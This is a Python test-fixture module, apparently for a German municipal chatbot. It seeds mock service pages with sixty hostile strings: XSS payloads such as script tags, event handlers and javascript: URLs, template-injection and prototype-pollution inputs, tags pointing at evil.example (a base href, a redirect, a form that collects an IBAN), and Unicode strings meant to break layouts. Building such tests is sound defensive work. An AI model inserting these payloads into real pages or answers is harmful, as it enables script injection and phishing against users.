"""Sixty strings that somebody might put into a question, a page or a model's answer to do harm or to break a layout."""

from __future__ import annotations

import re
from pathlib import Path

RAN = "window.ran = true"

MARKUP = (
    f"<script>{RAN}</script>",
    f"<img src=x onerror='{RAN}'>",
    f"<svg/onload={RAN}>",
    f"<svg><script>{RAN}</script></svg>",
    f"<body onload={RAN}>",
    f"<iframe srcdoc='<script>parent.{RAN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{RAN}'></iframe>",
    f"<a href='javascript:{RAN}'>Antrag</a>",
    f"<details open ontoggle={RAN}>",
    f"<video><source onerror={RAN}></video>",
    f"<math><mtext><style><img src=x onerror={RAN}></style></mtext></math>",
    f"</textarea><script>{RAN}</script>",
    f"</style><script>{RAN}</script>",
    f"<!--><img src=x onerror={RAN}>-->",
    f"<![CDATA[<script>{RAN}</script>]]>",
    f"&lt;script&gt;{RAN}&lt;/script&gt;",
    f"&#60;script&#62;{RAN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RAN}\\u003c/script\\u003e",
    f"<scr<script>ipt>{RAN}</scr</script>ipt>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=iban><button>Weiter</button></form>",
    "<auskunft-chat municipality=evil></auskunft-chat>",
    "<template shadowrootmode=open><slot></slot></template>",
)
TEMPLATES = (
    f"${{{RAN}}}",
    f"{{{{constructor.constructor('{RAN}')()}}}}",
    f"#{{{RAN}}}",
    f"<%= {RAN} %>",
    "<!--?lit$1234567$-->",
    "lit$0123456789$",
    "{n} {date} {number} {language}",
    "__proto__",
    "constructor",
    '"><b>fett</b>',
    "' onmouseover='window.ran = true",
    f"javascript:{RAN}",
    f"data:text/html,<script>{RAN}</script>",
    "![Bild](https://evil.example/x.png)",
    "[Hier klicken](https://evil.example)",
    "event: done\ndata: {}\n\n",
    '{"outcome": "answered", "sentences": []}',
)
LETTERS = (
    "\u202eEUR 64 tetsok red\u202c",
    "\u2066\u2067\u2068 ohne Ende",
    "\u200f\u200e\u061c gemischt",
    "A\u030a\u0301\u0327\u0328\u0330" * 12,
    "Z\u0351\u036b\u0343\u036a\u0302\u036b" * 20,
    "ﷺ" * 40,
    "\ufdfd" * 12,
    "👩‍👩‍👧‍👦" * 20,
    "🇩🇪" * 30,
    "\u0000".replace("\u0000", "\u2400") + " Nullzeichen",
    "\u200b" * 100 + "unsichtbar",
    "\u00ad" * 50 + "weich\u00adge\u00adtrennt",
    "\ufeffBOM am Anfang",
    "ｆｕｌｌｗｉｄｔｈ　ｔｅｘｔ",
)
SHAPES = (
    "Donaudampfschifffahrtsgesellschaftskapitänsmützenabzeichen" * 8,
    "https://www.musterstadt.example/" + "a" * 400,
    "Zeile\n" * 40,
    "-" * 480,
)
STRINGS = (*MARKUP, *TEMPLATES, *LETTERS, *SHAPES)


SERVICES = ("Reisepass", "Führerschein", "Wohngeld", "Kindergeld", "Parkausweis", "Elterngeld")
"""Each has a tenth of the strings among the documents that it needs."""

_PAGE = """---
id: muster:{name}
kind: service
title: {title} beantragen
scope: "99001000"
keywords: [{title}]
updated: 2026-02-01
url: https://www.musterstadt.example/leistungen/{name}
licence: EUPL-1.2
---

## Volltext

Den {title} beantragen Sie im Rathaus. Wer einen {title} braucht, kommt mit den Unterlagen ins Bürgerbüro.

## Unterlagen

Für den {title} brauchen Sie:

{items}
"""


def of_service(service: str) -> tuple[str, ...]:
    """The strings on the page of a service."""
    share = len(STRINGS) // len(SERVICES)
    at = SERVICES.index(service) * share
    return STRINGS[at : at + share] if service != SERVICES[-1] else STRINGS[at:]


def write_pages(folder: Path) -> None:
    """Write a page for each service, as an editor would whose text came from somewhere bad."""
    for service in SERVICES:
        items = "\n".join(f"- {' '.join(text.split())}" for text in of_service(service))
        text = _PAGE.format(name=service.lower().replace("ü", "ue"), title=service, items=items)
        (folder / f"{service}.md").write_text(text, encoding="utf-8")


def plain(text: str) -> str:
    """A string as a page quotes it: only the words of a link or picture in Markdown, nothing that cannot be seen."""
    return re.sub(r"[\u200b\u00ad\ufeff]", "", re.sub(r"\[([^\]]*)\]\(\S*\)", r"\1", text))
